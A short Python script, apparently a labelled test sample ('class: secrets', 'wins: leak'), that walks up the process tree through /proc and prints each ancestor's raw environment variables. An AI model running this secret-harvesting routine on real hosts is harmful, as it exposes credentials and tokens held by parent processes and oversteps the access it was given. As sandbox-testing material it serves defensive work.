"""Climbs from parent to parent and reads each one's environment."""

# ruff: noqa
# class: secrets
# wins: leak
# proof: plain

import os

pid = os.getpid()
while pid > 0:
    try:
        print(open(f"/proc/{pid}/environ", "rb").read())
        status = open(f"/proc/{pid}/status").read()
    except OSError as error:
        print(error)
        break
    pid = int(status.split("PPid:")[1].split()[0])
